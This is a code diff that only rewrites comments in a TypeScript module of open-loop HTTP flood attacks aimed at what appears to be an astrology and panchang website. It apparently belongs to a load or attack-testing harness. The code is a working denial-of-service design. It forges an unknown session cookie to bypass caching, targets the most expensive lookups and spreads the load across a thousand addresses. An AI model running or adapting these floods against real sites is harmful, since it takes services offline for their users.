@@ -1,7 +1,7 @@
 import { setTimeout as wait } from 'node:timers/promises';
 import { openSocket, type Attack, type Loot, type Stage } from './stage';
 
-/** Requests at the beginning, all at once, and then for the rest of the time. */
+/** A burst at the start, then `PER_SECOND` for the rest of the attack. */
 const BURST = 200;
 const PER_SECOND = 25;
 const PAUSE_MS = 1_000 / PER_SECOND;
@@ -9,21 +9,21 @@ const PAUSE_MS = 1_000 / PER_SECOND;
 const CITIES = ['pune', 'surat', 'jaipur', 'kanpur', 'nagpur', 'indore', 'bhopal', 'patna'];
 const SIGNS = ['aries', 'taurus', 'gemini', 'cancer', 'leo', 'virgo', 'libra', 'scorpio'];
 const MONTHS = ['january', 'february', 'march', 'april', 'may', 'june', 'july', 'august'];
-/** With a session that nobody has: kept pages are then made for the attacker alone. */
+/** An unknown session makes cached pages render for the attacker alone. */
 const FORGED = 'Cookie: taravani=x\r\n';
 
 type Shot = (count: number, loot: Loot) => string;
 
 const get = (path: string, header = '') => `GET ${path} HTTP/1.1\r\nHost: site\r\n${header}\r\n`;
 const among = (list: readonly string[], count: number) => list[count % list.length] ?? '';
-/** 1950 to 2100, which are the years that the site computes. */
+/** 1950 to 2100: the years that the site computes. */
 const year = (count: number) => String(1950 + (Math.floor(count / 8) % 151));
 const month = (count: number) => `${year(count)}-${String((count % 12) + 1).padStart(2, '0')}`;
 const day = (count: number) => `${month(count)}-${String((count % 28) + 1).padStart(2, '0')}`;
 const panchang = (behind: (count: number) => string) => (count: number) =>
   get(`/panchang/${among(CITIES, count)}/${behind(count)}`);
 
-/** A form of a birth, or of two, with a place that is none: looking for it costs most. */
+/** Birth forms with an unknown place, the most expensive lookup. */
 function post(path: string, prefixes: readonly string[]): Shot {
   return (count) => {
     const body = new URLSearchParams(
@@ -46,7 +46,7 @@ function post(path: string, prefixes: readonly string[]): Shot {
   };
 }
 
-/** Every kind of answer that has to be made. Each count asks for another one. */
+/** Every kind of rendered response; each count requests another one. */
 const KINDS: Readonly<Record<string, Shot>> = {
   'panchang days': panchang(day),
   'panchang months': panchang(month),
@@ -68,10 +68,10 @@ const KINDS: Readonly<Record<string, Shot>> = {
   'searches of cities': (count) => get(`/my-city?q=${encodeURIComponent(`पु${String(count)}`)}`),
 };
 
-/** Asks without waiting for answers, and closes each connection as soon as the request has left. */
+/** Sends without waiting and closes each connection after the request. */
 function openLoop(shots: readonly Shot[], addresses: number): Attack {
   return async (stage) => {
-    // The same kind may be attacked before: what it had made is kept.
+    // Random start, because an earlier attack of this kind filled the cache.
     let count = Math.floor(Math.random() * 10_000) * shots.length;
     const fire = () => {
       count += 1;
@@ -97,7 +97,7 @@ const ROUNDS: readonly (readonly [name: string, shots: readonly Shot[]])[] = [
   ['all kinds', Object.values(KINDS)],
 ];
 
-/** By its name: each kind and all of them in turn, from one address and from a thousand. */
+/** Each kind and all of them in turn, from one address and from a thousand. */
 export const OPEN_LOOPS: Readonly<Record<string, Attack>> = Object.fromEntries(
   ROUNDS.flatMap(([kind, shots]) => [
     [`open-loop: ${kind}, one address`, openLoop(shots, 1)],
